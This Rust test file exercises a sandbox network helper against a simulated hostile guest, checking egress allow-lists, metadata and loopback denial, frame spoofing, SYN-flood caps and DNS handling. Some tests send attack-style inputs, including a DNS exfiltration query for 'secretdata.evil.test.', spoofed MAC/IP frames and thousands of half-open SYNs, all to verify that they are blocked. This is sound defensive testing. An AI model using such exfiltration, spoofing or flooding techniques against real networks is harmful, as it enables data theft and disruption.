//! The helper against a hostile guest, in-process: a fake guest (a second smoltcp stack)
//! on one end of a socket pair, the production engine on the other, and fixtures on
//! 127.0.0.1. Every dial the engine makes is checked by the loopback guard, and every
//! refusal is asserted through the decision log, not only through a failed socket.
//!
//! Guest-visible "public" addresses are the RFC 5737 ranges 198.51.100.0/24 and
//! 203.0.113.0/24; the test maps the ones it uses to local fixtures (`dial_override`).

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use boxlite_net::config::{HostEntry, NetConfig, PortMap, Proto};
use boxlite_net::control::LogEntry;
use boxlite_net::fake_guest::{GuestError, Harness, raw_echo_request, raw_syn};
use hickory_proto::op::{Message, MessageType, OpCode, Query, ResponseCode};
use hickory_proto::rr::{Name, RecordType};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const T: Duration = Duration::from_secs(10);

fn v4(s: &str) -> SocketAddrV4 {
    s.parse().unwrap()
}

fn cfg() -> NetConfig {
    let dir = std::env::temp_dir().join(format!("bxnet-{:016x}", rand::random::<u64>()));
    let mut c = NetConfig::new(dir.join("n.sock"), dir.join("nc.sock"));
    c.test.loopback_only = true;
    // Nothing may ever be forwarded to a real resolver from a test.
    c.dns_upstreams = vec!["127.0.0.1:9".parse().unwrap()];
    c
}

/// A TCP fixture that echoes what it gets and counts its connections.
async fn echo_server() -> (SocketAddr, Arc<AtomicUsize>) {
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let count = Arc::new(AtomicUsize::new(0));
    let c = count.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = l.accept().await {
            c.fetch_add(1, Ordering::SeqCst);
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                while let Ok(n) = s.read(&mut buf).await {
                    if n == 0 || s.write_all(&buf[..n]).await.is_err() {
                        break;
                    }
                }
            });
        }
    });
    (addr, count)
}

fn query(name: &str, t: RecordType) -> Vec<u8> {
    let mut m = Message::new(rand::random(), MessageType::Query, OpCode::Query);
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), t));
    m.to_vec().unwrap()
}

fn a_records(reply: &[u8]) -> (ResponseCode, Vec<Ipv4Addr>) {
    let m = Message::from_vec(reply).unwrap();
    let ips = m
        .answers
        .iter()
        .filter_map(|r| match &r.data {
            hickory_proto::rr::RData::A(a) => Some(a.0),
            _ => None,
        })
        .collect();
    (m.metadata.response_code, ips)
}

fn last_for(log: &[LogEntry], dst: &str) -> LogEntry {
    log.iter()
        .rev()
        .find(|e| e.dst.as_deref() == Some(dst))
        .cloned()
        .unwrap_or_else(|| panic!("no decision for {dst} in {log:#?}"))
}

fn no_guard_violations(log: &[LogEntry]) {
    assert!(
        !log.iter().any(|e| e.kind == "guard"),
        "a dial left 127.0.0.0/8: {log:#?}"
    );
}

#[tokio::test]
async fn an_allowed_connection_is_relayed_both_ways_and_logged() {
    let (fixture, accepts) = echo_server().await;
    let mut c = cfg();
    c.test.dial_override = vec![("203.0.113.10:80".parse().unwrap(), fixture)];
    let mut h = Harness::start(c).await.unwrap();
    let s = h.guest.connect(v4("203.0.113.10:80")).await.unwrap();
    let data: Vec<u8> = (0..300_000u32).map(|i| (i % 251) as u8).collect();
    h.guest.send(s, &data).await.unwrap();
    let back = h.guest.read_n(s, data.len(), T).await;
    assert_eq!(back.len(), data.len());
    assert!(back == data, "the echo differs");
    assert_eq!(accepts.load(Ordering::SeqCst), 1);
    let e = last_for(&h.log(), "203.0.113.10:80");
    assert_eq!((e.verdict.as_str(), e.kind.as_str()), ("allow", "connect"));
    let st = h.shared.stats.snapshot();
    assert_eq!(st.bytes_out, data.len() as u64);
    assert_eq!(st.bytes_in, data.len() as u64);
    no_guard_violations(&h.log());
}

#[tokio::test]
async fn a_refused_upstream_shows_the_guest_a_reset() {
    // Bind and drop: a port nothing listens on.
    let closed = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap();
    let mut c = cfg();
    c.test.dial_override = vec![("203.0.113.11:80".parse().unwrap(), closed)];
    let mut h = Harness::start(c).await.unwrap();
    assert_eq!(
        h.guest.connect(v4("203.0.113.11:80")).await,
        Err(GuestError::Reset)
    );
    assert!(h.log().iter().any(|e| e.kind == "dial"));
}

#[tokio::test]
async fn raw_ip_connections_are_refused_when_only_a_name_is_allowed() {
    // Case 1 and 2: allow-list with a name; the guest connects to an address it never
    // resolved (even the very address the name would resolve to).
    let (fixture, accepts) = echo_server().await;
    let mut c = cfg();
    c.rules.allow = vec!["api.example.com".into()];
    c.hosts = vec![HostEntry {
        name: "api.example.com".into(),
        ip: Ipv4Addr::new(203, 0, 113, 10),
    }];
    c.test.dial_override = vec![
        ("203.0.113.99:443".parse().unwrap(), fixture),
        ("203.0.113.10:443".parse().unwrap(), fixture),
    ];
    let mut h = Harness::start(c).await.unwrap();
    for dst in ["203.0.113.99:443", "203.0.113.10:443"] {
        assert_eq!(
            h.guest.connect(v4(dst)).await,
            Err(GuestError::Reset),
            "{dst}"
        );
        let e = last_for(&h.log(), dst);
        assert_eq!(e.verdict, "deny", "{e:?}");
    }
    assert_eq!(
        accepts.load(Ordering::SeqCst),
        0,
        "the fixture saw a connection"
    );
    // Once the box's own DNS has answered, the name's address is reachable.
    let (rc, ips) = a_records(
        &h.guest
            .dns(
                Ipv4Addr::new(10, 0, 2, 3),
                &query("api.example.com.", RecordType::A),
            )
            .await
            .unwrap(),
    );
    assert_eq!(
        (rc, ips),
        (ResponseCode::NoError, vec![Ipv4Addr::new(203, 0, 113, 10)])
    );
    let s = h.guest.connect(v4("203.0.113.10:443")).await.unwrap();
    h.guest.send(s, b"ping").await.unwrap();
    assert_eq!(h.guest.read_n(s, 4, T).await, b"ping");
    assert_eq!(last_for(&h.log(), "203.0.113.10:443").verdict, "allow");
    no_guard_violations(&h.log());
}

#[tokio::test]
async fn a_host_header_for_another_name_on_a_shared_address_is_refused() {
    // Cases 5 and 6: two names on one address, one allowed; the decision waits for the
    // request's Host.
    let (fixture, accepts) = echo_server().await;
    let mut c = cfg();
    c.rules.allow = vec!["a.example.com".into()];
    let shared_ip = Ipv4Addr::new(203, 0, 113, 20);
    c.hosts = vec![
        HostEntry {
            name: "a.example.com".into(),
            ip: shared_ip,
        },
        HostEntry {
            name: "b.example.com".into(),
            ip: shared_ip,
        },
    ];
    c.rules.allow.push("b.example.com:1-10".into()); // b may resolve, but not on :80
    c.test.dial_override = vec![("203.0.113.20:80".parse().unwrap(), fixture)];
    let mut h = Harness::start(c).await.unwrap();
    for n in ["a.example.com.", "b.example.com."] {
        let r = h
            .guest
            .dns(Ipv4Addr::new(10, 0, 2, 3), &query(n, RecordType::A))
            .await;
        assert_eq!(a_records(&r.unwrap()).1, vec![shared_ip]);
    }
    let s = h.guest.connect(v4("203.0.113.20:80")).await.unwrap();
    h.guest
        .send(s, b"GET / HTTP/1.1\r\nHost: b.example.com\r\n\r\n")
        .await
        .unwrap();
    let (_, reset) = h.guest.read_to_end(s, T).await;
    assert!(reset, "a refused request must be reset");
    assert_eq!(accepts.load(Ordering::SeqCst), 0);
    let e = h
        .log()
        .into_iter()
        .rev()
        .find(|e| e.name.as_deref() == Some("b.example.com"));
    assert_eq!(e.map(|e| e.verdict), Some("deny".to_string()));

    let s = h.guest.connect(v4("203.0.113.20:80")).await.unwrap();
    let req = b"GET / HTTP/1.1\r\nHost: a.example.com\r\n\r\n";
    h.guest.send(s, req).await.unwrap();
    assert_eq!(h.guest.read_n(s, req.len(), T).await, req);
    assert_eq!(accepts.load(Ordering::SeqCst), 1);
    no_guard_violations(&h.log());
}

/// A fake upstream resolver that counts what it receives and answers nothing.
async fn counting_resolver() -> (SocketAddr, Arc<AtomicUsize>) {
    let s = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let addr = s.local_addr().unwrap();
    let n = Arc::new(AtomicUsize::new(0));
    let c = n.clone();
    tokio::spawn(async move {
        let mut buf = [0u8; 2048];
        while s.recv_from(&mut buf).await.is_ok() {
            c.fetch_add(1, Ordering::SeqCst);
        }
    });
    (addr, n)
}

#[tokio::test]
async fn denied_names_are_answered_locally_and_never_forwarded() {
    // Case 14 (DNS exfiltration) and case 11 (DNS sent to another resolver's address).
    let (upstream, seen) = counting_resolver().await;
    let mut c = cfg();
    c.dns_upstreams = vec![upstream];
    c.rules.allow = vec!["*.example.com".into()];
    let mut h = Harness::start(c).await.unwrap();
    for server in [Ipv4Addr::new(10, 0, 2, 3), Ipv4Addr::new(198, 51, 100, 53)] {
        let r = h
            .guest
            .dns(server, &query("secretdata.evil.test.", RecordType::A))
            .await
            .expect("the helper answers");
        assert_eq!(a_records(&r).0, ResponseCode::NXDomain);
    }
    h.guest.idle(Duration::from_millis(200)).await;
    assert_eq!(
        seen.load(Ordering::SeqCst),
        0,
        "a denied name went upstream"
    );
    let denials: Vec<_> = h
        .log()
        .into_iter()
        .filter(|e| e.kind == "dns" && e.verdict == "deny")
        .collect();
    assert_eq!(denials.len(), 2, "{denials:#?}");
    // An allowed name is forwarded, to the configured upstream only.
    let _ = h
        .guest
        .dns(
            Ipv4Addr::new(198, 51, 100, 53),
            &query("www.example.com.", RecordType::A),
        )
        .await;
    h.guest.idle(Duration::from_millis(100)).await;
    assert_eq!(seen.load(Ordering::SeqCst), 1);
}

#[tokio::test]
async fn the_hosts_loopback_and_metadata_are_denied_by_default() {
    // Cases 17 and 18: the gateway maps to the host's loopback; it is the `host` group.
    let (fixture, accepts) = echo_server().await;
    let mut h = Harness::start(cfg()).await.unwrap();
    let gw = format!("10.0.2.2:{}", fixture.port());
    assert_eq!(h.guest.connect(v4(&gw)).await, Err(GuestError::Reset));
    assert_eq!(last_for(&h.log(), &gw).verdict, "deny");
    assert_eq!(
        h.guest.connect(v4("169.254.169.254:80")).await,
        Err(GuestError::Reset)
    );
    assert_eq!(last_for(&h.log(), "169.254.169.254:80").verdict, "deny");
    assert_eq!(
        h.guest.connect(v4("10.1.2.3:80")).await,
        Err(GuestError::Reset)
    );
    assert_eq!(accepts.load(Ordering::SeqCst), 0);

    // With an explicit `host` rule the host's service is reachable through the gateway.
    let mut c = cfg();
    c.rules.allow = vec![format!("host:{}", fixture.port())];
    let mut h = Harness::start(c).await.unwrap();
    let s = h.guest.connect(v4(&gw)).await.unwrap();
    h.guest.send(s, b"hi").await.unwrap();
    assert_eq!(h.guest.read_n(s, 2, T).await, b"hi");
    no_guard_violations(&h.log());
}

#[tokio::test]
async fn spoofed_ipv6_and_malformed_frames_are_dropped_and_counted() {
    let mut h = Harness::start(cfg()).await.unwrap();
    let s = h.guest.subnet().clone();
    let to = v4("203.0.113.5:9");
    let mut spoof_ip = s.clone();
    spoof_ip.guest_ip = Ipv4Addr::new(10, 0, 2, 99);
    h.guest
        .raw(&boxlite_net::frame::udp_from_guest(&spoof_ip, 1, to, b"x"))
        .await;
    let mut spoof_mac = boxlite_net::frame::udp_from_guest(&s, 1, to, b"x");
    spoof_mac[11] ^= 0x01;
    h.guest.raw(&spoof_mac).await;
    let mut v6 = boxlite_net::frame::udp_from_guest(&s, 1, to, b"x");
    v6[12] = 0x86;
    v6[13] = 0xdd;
    h.guest.raw(&v6).await;
    h.guest.raw(&[0u8; 3]).await;
    h.guest.idle(Duration::from_millis(100)).await;
    let st = h.shared.stats.snapshot();
    assert_eq!(st.dropped_spoofed, 2, "{st:?}");
    assert_eq!(st.dropped_ipv6, 1, "{st:?}");
    assert_eq!(st.dropped_malformed, 1, "{st:?}");
    // And the helper still works.
    let r = h
        .guest
        .dns(s.dns_ip, &query("x.invalid.", RecordType::AAAA))
        .await;
    let m = Message::from_vec(&r.unwrap()).unwrap();
    assert!(m.answers.is_empty(), "AAAA is answered with no data");
}

#[tokio::test]
async fn udp_is_relayed_only_to_destinations_an_address_rule_covers() {
    // Case 16.
    let echo = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let echo_addr = echo.local_addr().unwrap();
    tokio::spawn(async move {
        let mut buf = [0u8; 2048];
        while let Ok((n, peer)) = echo.recv_from(&mut buf).await {
            let _ = echo.send_to(&buf[..n], peer).await;
        }
    });
    let mut c = cfg();
    c.rules.allow = vec!["203.0.113.30/udp".into(), "quic.example.com".into()];
    c.hosts = vec![HostEntry {
        name: "quic.example.com".into(),
        ip: Ipv4Addr::new(203, 0, 113, 31),
    }];
    c.test.dial_override = vec![
        ("203.0.113.30:7000".parse().unwrap(), echo_addr),
        ("203.0.113.31:443".parse().unwrap(), echo_addr),
    ];
    let mut h = Harness::start(c).await.unwrap();
    let _ = h
        .guest
        .dns(
            Ipv4Addr::new(10, 0, 2, 3),
            &query("quic.example.com.", RecordType::A),
        )
        .await
        .unwrap();
    h.guest
        .udp_send(5000, v4("203.0.113.31:443"), b"quic")
        .await;
    assert_eq!(
        h.guest.udp_recv(5000, Duration::from_millis(300)).await,
        None
    );
    assert_eq!(last_for(&h.log(), "203.0.113.31:443").verdict, "deny");
    h.guest
        .udp_send(5001, v4("203.0.113.30:7000"), b"dgram")
        .await;
    let (from, data) = h.guest.udp_recv(5001, T).await.expect("echo");
    assert_eq!(
        (from, data.as_slice()),
        (v4("203.0.113.30:7000"), &b"dgram"[..])
    );
    no_guard_violations(&h.log());
}

#[tokio::test]
async fn the_guard_refuses_any_dial_outside_loopback() {
    let mut h = Harness::start(cfg()).await.unwrap();
    assert_eq!(
        h.guest.connect(v4("203.0.113.77:80")).await,
        Err(GuestError::Reset)
    );
    assert!(h.log().iter().any(|e| e.kind == "guard"));
}

#[tokio::test]
async fn a_published_port_reaches_a_listener_in_the_guest() {
    let mut c = cfg();
    c.ports = vec![PortMap {
        host: "127.0.0.1:0".parse().unwrap(),
        guest_port: 8080,
        proto: Proto::Tcp,
    }];
    let mut h = Harness::start(c).await.unwrap();
    let bound = h.shared.ports()[0].host;
    let l = h.guest.listen(8080);
    let client = tokio::spawn(async move {
        let mut s = tokio::net::TcpStream::connect(bound).await.unwrap();
        s.write_all(b"hello box").await.unwrap();
        let mut buf = [0u8; 9];
        s.read_exact(&mut buf).await.unwrap();
        buf
    });
    assert!(h.guest.accepted(l, T).await);
    let got = h.guest.read_n(l, 9, T).await;
    assert_eq!(got, b"hello box");
    h.guest.send(l, b"hello host").await.unwrap();
    let reply = tokio::time::timeout(T, client).await.unwrap().unwrap();
    assert_eq!(&reply, b"hello hos");
}

#[tokio::test]
async fn a_syn_flood_is_capped_and_the_helper_stays_responsive() {
    // Case 30: thousands of SYNs the guest never completes.
    let (fixture, _) = echo_server().await;
    let mut c = cfg();
    c.test.dial_override = vec![("203.0.113.40:80".parse().unwrap(), fixture)];
    let mut h = Harness::start(c).await.unwrap();
    let s = h.guest.subnet().clone();
    for port in 1000..6000u16 {
        h.guest.raw(&raw_syn(&s, port, v4("203.0.113.40:80"))).await;
    }
    h.guest.idle(Duration::from_millis(300)).await;
    let st = h.shared.stats.snapshot();
    assert!(
        st.tcp_active <= boxlite_net::engine::MAX_TCP_FLOWS as u64,
        "{st:?}"
    );
    let conn = h.guest.connect(v4("203.0.113.40:80")).await;
    assert!(conn.is_ok() || conn == Err(GuestError::Reset), "{conn:?}");
    // DNS still answers.
    let r = h
        .guest
        .dns(s.dns_ip, &query("host.boxlite.internal.", RecordType::A))
        .await;
    assert!(r.is_some());
}

#[tokio::test]
async fn a_published_udp_port_maps_each_host_peer_and_the_replies_return() {
    let mut c = cfg();
    c.ports = vec![PortMap {
        host: "127.0.0.1:0".parse().unwrap(),
        guest_port: 5353,
        proto: Proto::Udp,
    }];
    let mut h = Harness::start(c).await.unwrap();
    let bound = h.shared.ports()[0].host;
    let a = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let b = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    a.send_to(b"from a", bound).await.unwrap();
    let (from_a, data) = h.guest.udp_recv(5353, T).await.expect("a's datagram");
    assert_eq!(data, b"from a");
    b.send_to(b"from b", bound).await.unwrap();
    let (from_b, data) = h.guest.udp_recv(5353, T).await.expect("b's datagram");
    assert_eq!(data, b"from b");
    // Each host peer appears to the box as its own gateway port.
    assert_eq!(from_a.ip(), &Ipv4Addr::new(10, 0, 2, 2));
    assert_ne!(from_a.port(), from_b.port());
    h.guest.udp_send(5353, from_b, b"to b").await;
    h.guest.udp_send(5353, from_a, b"to a").await;
    h.guest.idle(Duration::from_millis(50)).await;
    let mut buf = [0u8; 64];
    let (n, src) = tokio::time::timeout(T, a.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!((&buf[..n], src), (&b"to a"[..], bound));
    let (n, _) = tokio::time::timeout(T, b.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..n], b"to b");
}

#[tokio::test]
async fn pings_are_answered_by_the_gateway_only() {
    let mut h = Harness::start(cfg()).await.unwrap();
    let s = h.guest.subnet().clone();
    // Let the two stacks learn each other's MAC first (a refused connection does it),
    // as a real guest's ARP would.
    assert_eq!(
        h.guest.connect(v4("10.0.2.2:1")).await,
        Err(GuestError::Reset)
    );
    h.guest.seen = Some(Vec::new());
    for (dst, id) in [(s.gateway_ip, 1u16), (Ipv4Addr::new(203, 0, 113, 1), 2)] {
        h.guest.raw(&raw_echo_request(&s, dst, id)).await;
    }
    h.guest.idle(Duration::from_millis(200)).await;
    let replies: Vec<u16> = h
        .guest
        .seen
        .take()
        .unwrap()
        .iter()
        .filter_map(|f| echo_reply_id(f))
        .collect();
    assert_eq!(replies, vec![1], "only the gateway answers");
    assert_eq!(h.shared.stats.snapshot().dropped_other, 1);
}

fn echo_reply_id(f: &[u8]) -> Option<u16> {
    use smoltcp::wire::*;
    let eth = EthernetFrame::new_checked(f).ok()?;
    let ip = Ipv4Packet::new_checked(eth.payload()).ok()?;
    if ip.next_header() != IpProtocol::Icmp {
        return None;
    }
    let ic = Icmpv4Packet::new_checked(ip.payload()).ok()?;
    (ic.msg_type() == Icmpv4Message::EchoReply).then(|| ic.echo_ident())
}

#[tokio::test]
async fn dns_over_tcp_stops_reading_a_guest_that_never_reads_its_answers() {
    // Locally answered queries (AAAA) need no upstream: without a bound, their answers
    // would pile up in the helper for as long as the guest keeps sending.
    let mut h = Harness::start(cfg()).await.unwrap();
    let q = query("x.example.com.", RecordType::AAAA);
    let mut framed = (u16::try_from(q.len()).unwrap()).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    let stream: Vec<u8> = framed
        .iter()
        .copied()
        .cycle()
        .take(framed.len() * 4096)
        .collect();
    let s = h.guest.connect(v4("10.0.2.3:53")).await.unwrap();
    let taken = h.guest.offer(s, &stream, Duration::from_secs(3)).await;
    // What the answers fill (the guest's own 512 KiB receive buffer, the helper's send
    // buffer and answer backlog) plus the helper's receive and parse buffers: about
    // 1.2 MiB. Without the bound the helper took 11 MB in these 3 s, and kept going.
    assert!(taken > 0, "the helper read nothing");
    assert!(taken < 2 << 20, "the helper took {taken} bytes");
    // And it still answers others.
    let r = h
        .guest
        .dns(
            Ipv4Addr::new(10, 0, 2, 3),
            &query("y.example.com.", RecordType::AAAA),
        )
        .await;
    assert!(r.is_some());
}

#[tokio::test]
async fn a_refused_udp_flow_is_decided_and_logged_once() {
    let mut h = Harness::start(cfg()).await.unwrap();
    for _ in 0..500 {
        h.guest.udp_send(7000, v4("10.9.9.9:9999"), b"x").await;
    }
    h.guest.idle(Duration::from_millis(200)).await;
    let entries: Vec<_> = h
        .log()
        .into_iter()
        .filter(|e| e.dst.as_deref() == Some("10.9.9.9:9999"))
        .collect();
    assert_eq!(entries.len(), 1, "{entries:#?}");
    assert_eq!(entries[0].verdict, "deny");
    assert_eq!(h.shared.stats.snapshot().denied, 500);
}

#[tokio::test]
async fn what_the_guest_sends_last_reaches_a_host_that_closed_first() {
    // The host stops sending at once; the guest then sends its data and closes. The
    // guest's last bytes and FIN may end the flow in one poll: they must still arrive.
    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = l.local_addr().unwrap();
    let got = tokio::spawn(async move {
        let (mut s, _) = l.accept().await.unwrap();
        s.shutdown().await.unwrap();
        let mut all = Vec::new();
        s.read_to_end(&mut all).await.unwrap();
        all
    });
    let mut c = cfg();
    c.test.dial_override = vec![("203.0.113.50:80".parse().unwrap(), addr)];
    let mut h = Harness::start(c).await.unwrap();
    let s = h.guest.connect(v4("203.0.113.50:80")).await.unwrap();
    let data: Vec<u8> = (0..200_000u32).map(|i| (i % 253) as u8).collect();
    let _ = h.guest.read_to_end(s, Duration::from_millis(200)).await;
    h.guest.send(s, &data).await.unwrap();
    h.guest.close(s).await;
    h.guest.idle(Duration::from_millis(300)).await;
    let all = tokio::time::timeout(T, got).await.unwrap().unwrap();
    assert_eq!(all.len(), data.len());
    assert!(all == data);
}
